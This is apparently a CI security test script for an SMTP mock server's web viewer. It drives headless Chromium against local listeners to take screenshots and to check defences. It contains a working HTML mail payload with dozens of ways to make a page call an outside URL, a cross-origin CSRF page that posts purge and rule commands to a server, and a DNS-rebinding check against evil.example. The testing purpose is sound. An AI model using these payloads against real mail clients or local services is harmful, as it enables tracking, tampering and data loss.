"""What a real browser does with the pages of -http: .ci/browser.py [FOLDER]

Debian's chromium, which is installed if it is not there, takes screenshots into the folder, for people to look at, and
is attacked: by a mail that tries everything to call a listener, and by pages of other origins that try to change the
server. A listener without defences, which is attacked in the same ways, shows that the attacks work.
"""

from __future__ import annotations

import base64
import contextlib
import http.server
import json
import shutil
import smtplib
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from collections.abc import Callable, Iterator
from email.message import EmailMessage
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
FLAGS = "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking"
FLAGS += " --disable-component-update --disable-sync --hide-scrollbars"

GIF = base64.b64decode("R0lGODlhAQABAPAAACRGZAAAACH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==")

# Each of these calls {url} from a page without defences, or did so in some browser.
HOSTILE = """
<html manifest="{url}manifest"><head><base href="{url}base/">
<meta http-equiv="refresh" content="0; url={url}refresh">
<link rel="preconnect" href="{url}"><link rel="dns-prefetch" href="{url}"><link rel="prefetch" href="{url}prefetch">
<link rel="preload" as="image" href="{url}preload"><link rel="modulepreload" href="{url}modulepreload">
<link rel="stylesheet" href="{url}css"><link rel="icon" href="{url}icon"><link rel="prerender" href="{url}prerender">
<script type="speculationrules">{{"prerender": [{{"urls": ["{url}speculation"]}}]}}</script>
<style>@import "{url}import"; @font-face {{ font-family: f; src: url({url}font) }}
body {{ background: url({url}background); font-family: f; cursor: url({url}cursor), auto }}
li {{ list-style-image: url({url}list); content: image-set(url({url}set) 1x) }}</style>
<script src="{url}script"></script><script>fetch("{url}fetch"); new Image().src = "{url}image"</script></head>
<body background="{url}body" onload="location = '{url}onload'"><li>text in the font</li>
<img src="{url}img"><img srcset="{url}srcset 1x"><img src="x" onerror="new Image().src='{url}onerror'">
<img src="relative"><picture><source srcset="{url}picture"><img></picture><input type="image" src="{url}input">
<svg><image href="{url}svg"/><use href="{url}use#a"/><script>fetch("{url}svgscript")</script>
<animate onbegin="fetch('{url}begin')" attributeName="x" dur="1s"/>
<foreignObject><img src="{url}foreign"></foreignObject>
<rect fill="url({url}fill#a)" filter="url({url}filter#a)" width="9" height="9"/></svg>
<iframe src="{url}iframe"></iframe><iframe srcdoc="<img src='{url}srcdoc'>"></iframe>
<iframe src="javascript:top.location='{url}'"></iframe>
<object data="{url}object"></object><embed src="{url}embed">
<video src="{url}video" poster="{url}poster" autoplay></video>
<audio src="{url}audio" autoplay></audio><video><track src="{url}track" default></video>
<form id="f" action="{url}form" method="post">
<input name="a" autofocus onfocus="document.getElementById('f').submit()"></form>
<a href="{url}ping" ping="{url}pinged">a link</a><a href="javascript:fetch('{url}link')" id="j">another</a>
<details open ontoggle="fetch('{url}toggle')"><summary>x</summary></details>
<marquee onstart="fetch('{url}start')">x</marquee>
<math href="{url}math">m</math><table background="{url}table"><tr><td background="{url}td">t</table>
<q cite="{url}cite">q</q>
<div style="background-image: url({url}style)">d</div><frameset><frame src="{url}frame"></frameset></body></html>
"""

# A page that sends what it can to {target}, and then calls {done}.
ATTACK = """
<html><body><iframe name="hidden"></iframe><img src="{target}messages"><iframe src="{target}"></iframe><script>
const send = (path, body) => fetch("{target}" + path, {{ method: "POST", body, mode: "no-cors" }}).catch(() => 0);
const submit = (path, method, enctype) => {{
  const form = document.createElement("form");
  Object.assign(form, {{ action: "{target}" + path, method, enctype, target: "hidden" }});
  form.append(Object.assign(document.createElement("textarea"), {{ name: "RCPT: reply 550 no", value: "" }}));
  document.body.append(form);
  form.submit();
}};
(async () => {{
  await send("purge", "");
  await send("reset", "");
  await send("rule", "RCPT: reply 550 no");
  await send("configure", "-failFast");
  await fetch("{target}purge", {{ method: "POST", headers: {{ "Content-Type": "application/json" }} }}).catch(() => 0);
  navigator.sendBeacon("{target}purge"); navigator.sendBeacon("{target}rule", "RCPT: reply 550 no");
  submit("purge", "post", "text/plain"); await new Promise((wake) => setTimeout(wake, 300));
  submit("rule", "post", "text/plain"); await new Promise((wake) => setTimeout(wake, 300));
  submit("purge", "get", "text/plain"); await new Promise((wake) => setTimeout(wake, 300));
  const seen = await fetch("{target}messages").then((answer) => answer.text(), () => "");
  await fetch("{done}?" + (seen.includes("messages") ? "read" : "blind"), {{ mode: "no-cors" }}).catch(() => 0);
}})();
</script></body></html>
"""


class Web(http.server.ThreadingHTTPServer):
    """Serves pages by their paths, and notes what else it is asked for; a connection without a request, too."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Visit)
        self.pages: dict[str, str] = {}
        self.seen: list[str] = []
        self.url = f"http://127.0.0.1:{self.server_address[1]}/"
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def handle_error(self, request: Any, client_address: Any) -> None: ...

    def verify_request(self, request: Any, client_address: Any) -> bool:
        self.seen.append("connection")
        return True


class Visit(http.server.BaseHTTPRequestHandler):
    server: Any
    timeout = 10

    def answer(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        self.server.seen.append(f"{self.command} {self.path} {self.rfile.read(length).decode()}".strip())
        body = self.server.pages.get(self.path, "").encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = answer  # noqa: N815 - the names are those of the base class

    def log_message(self, *_: object) -> None: ...


def run_chromium(url: str, *flags: str) -> str:
    """Have it take a screenshot or print the document."""
    with tempfile.TemporaryDirectory() as profile:
        command = ["chromium", *FLAGS.split(), f"--user-data-dir={profile}", *flags, "--timeout=3000", url]
        return subprocess.run(command, capture_output=True, text=True, timeout=90, check=True).stdout


def visit(url: str, *flags: str, seconds: float, until: Callable[[], bool] = lambda: False) -> None:
    """Look at a page for some seconds, or until something has happened."""
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        command = ["chromium", *FLAGS.split(), f"--user-data-dir={profile}", "--remote-debugging-port=0", *flags, url]
        with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as browser:
            deadline = time.monotonic() + seconds
            while time.monotonic() < deadline and not until():
                time.sleep(0.05)
            browser.terminate()


@contextlib.contextmanager
def run_server(*flags: str) -> Iterator[tuple[int, str]]:
    command = [sys.executable, str(ROOT / "smtpmock.py"), "-http=0", "-control", *flags]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout and process.stdin
        listening = json.loads(process.stdout.readline())
        threading.Thread(target=process.stdout.read, daemon=True).start()
        try:
            yield listening["port"], listening["http"]
        finally:
            process.stdin.close()
            assert process.wait(20) == 0, process.returncode


def get(url: str) -> Any:
    with urllib.request.urlopen(url, timeout=20) as answer:
        return json.load(answer)


def post(url: str) -> int:
    with urllib.request.urlopen(url, data=b"", timeout=20) as answer:
        return int(answer.status)


def make_mail(subject: str, html: str) -> EmailMessage:
    mail = EmailMessage()
    mail["From"], mail["To"] = "Example Shop <shop@example.com>", "Bob Müller <bob@example.com>, eve@example.com"
    mail["Subject"], mail["Date"], mail["Message-ID"] = (
        subject,
        "Mon, 30 Nov 2026 18:44:05 +0000",
        "<1@shop.example.com>",
    )
    mail.set_content(
        "Hello Bob,\n\nthank you for your order. Tracking: https://shop.example.com/orders/4711\n\nYour shop\n"
    )
    mail.add_alternative(html, subtype="html")
    return mail


def send(port: int, *mails: EmailMessage) -> None:
    for mail in mails:
        with smtplib.SMTP("127.0.0.1", port, timeout=20) as client:
            client.sendmail("shop@example.com", ["bob@example.com", "eve@example.com"], mail.as_bytes())


def take_screenshots(folder: Path) -> None:
    """Of the list and of a mail: light, dark, and in a narrow window."""
    with run_server("-notRegisteredEmails=nobody@example.com") as (port, url):
        page: Any = '<h1 style="color: #246">Your order</h1><p>Thank you, <b>Bob</b>! <img src="cid:logo" width="60">'
        page += '<table border="1"><tr><td>1 book<td>12.00 EUR</table>'
        mail = make_mail("Your order 4711 — thank you! ✓", page)
        page = mail.get_payload(1)
        page.add_related(GIF, "image", "gif", cid="<logo>")
        mail.add_attachment(b"%PDF-1.4", maintype="application", subtype="pdf", filename="invoice für Bob.pdf")
        send(port, mail, make_mail("A very long subject, " * 12, "<p>Short."))
        with smtplib.SMTP("127.0.0.1", port) as client, contextlib.suppress(smtplib.SMTPRecipientsRefused):
            client.sendmail("shop@example.com", ["nobody@example.com"], "Subject: Hi")
        with smtplib.SMTP("127.0.0.1", port) as client:
            client.sendmail("", ["bob@example.com"], b"Subject: caf\xe9\nFrom: nobody\n\nNot what an RFC allows\n")
        first = get(f"{url}/messages")["messages"][0]["id"]
        for name, path in (("list", "/"), ("mail", f"/view/{first}")):
            for look, flags in {
                "light": ["--window-size=1100,1800"],
                "dark": ["--window-size=1100,900", "--blink-settings=preferredColorScheme=0"],
                "narrow": ["--window-size=400,900"],
            }.items():
                file = folder / f"{name}-{look}.png"
                run_chromium(url + path, f"--screenshot={file}", *flags)
                assert file.stat().st_size > 5000, file
                print(f"see {file}")


def attack_with_a_mail() -> None:
    listener, plain = Web(), Web()
    with run_server() as (port, url):
        html = HOSTILE.format(url=listener.url)
        send(port, make_mail("Hostile", html))
        plain.pages["/"] = html.replace('<meta http-equiv="refresh"', '<meta http-equiv="none"').replace(
            "location =", ""
        )
        visit(plain.url, seconds=6)
        works, listener.seen[:] = set(listener.seen), []
        assert len(works) > 15, works
        print(f"without defences, the mail calls {len(works)} addresses")
        [record] = get(f"{url}/messages")["messages"]
        for path in (f"/view/{record['id']}", f"/view/{record['id']}/html"):
            assert "text in the font" in run_chromium(f"{url}/view/{record['id']}/html", "--dump-dom")
            visit(url + path, seconds=6)
            assert listener.seen == [], (path, listener.seen)
            print(f"{path}: it calls nothing")


def attack_from_other_origins() -> None:
    origin = Web()
    for host in ("127.0.0.1", "localhost", "evil.example"):
        for defended in (False, True):
            with run_server() as (port, url):
                send(port, make_mail("Keep me", "<p>Hi"))
                victim = Web()
                target = f"{url}/" if defended else victim.url
                origin.seen.clear()
                origin.pages["/"] = ATTACK.format(target=target, done=f"{origin.url}done")
                page = origin.url.replace("127.0.0.1", host)
                rule = "--host-resolver-rules=MAP evil.example 127.0.0.1"
                visit(page, rule, seconds=20, until=lambda: any("/done" in seen for seen in origin.seen))
                assert any("/done" in seen for seen in origin.seen), origin.seen
                if defended:
                    assert any(seen.endswith("done?blind") for seen in origin.seen), origin.seen
                    assert len(get(f"{url}/messages")["messages"]) == 1
                    assert post(f"{url}/check") == 200
                    with smtplib.SMTP("127.0.0.1", port) as client:
                        client.ehlo("a.example")
                        assert client.docmd("FOO")[0] == 502
                        assert client.mail("a@example.com")[0] == client.rcpt("b@example.com")[0] == 250
                    print(f"from http://{host}: nothing is changed or read")
                else:
                    posts = [seen for seen in victim.seen if seen.startswith("POST")]
                    assert len(posts) >= 8, victim.seen
                    print(f"from http://{host}: a server without defences gets {len(posts)} commands")


def rebind() -> None:
    """A name of the attacker that has the address of the server: its page would be of the same origin."""
    with run_server() as (port, url):
        send(port, make_mail("Keep me", "<p>Hi"))
        rule = f"--host-resolver-rules=MAP evil.example 127.0.0.1:{url.rpartition(':')[2]}"
        document = run_chromium("http://evil.example/messages", rule, "--dump-dom")
        assert "is not known as a name of this server" in document and "Keep me" not in document, document
        print("rebinding: refused")


def main() -> None:
    if shutil.which("chromium") is None:
        subprocess.run("apt-get update -qq", shell=True, check=True)
        install = "apt-get install -y -qq -o DPkg::Lock::Timeout=300 --no-install-recommends chromium"
        subprocess.run(install, shell=True, check=True, stdout=subprocess.DEVNULL)
    with contextlib.ExitStack() as stack:
        folder = Path(sys.argv[1] if len(sys.argv) > 1 else stack.enter_context(tempfile.TemporaryDirectory()))
        folder.mkdir(parents=True, exist_ok=True)
        take_screenshots(folder)
        attack_with_a_mail()
        attack_from_other_origins()
        rebind()


if __name__ == "__main__":
    main()
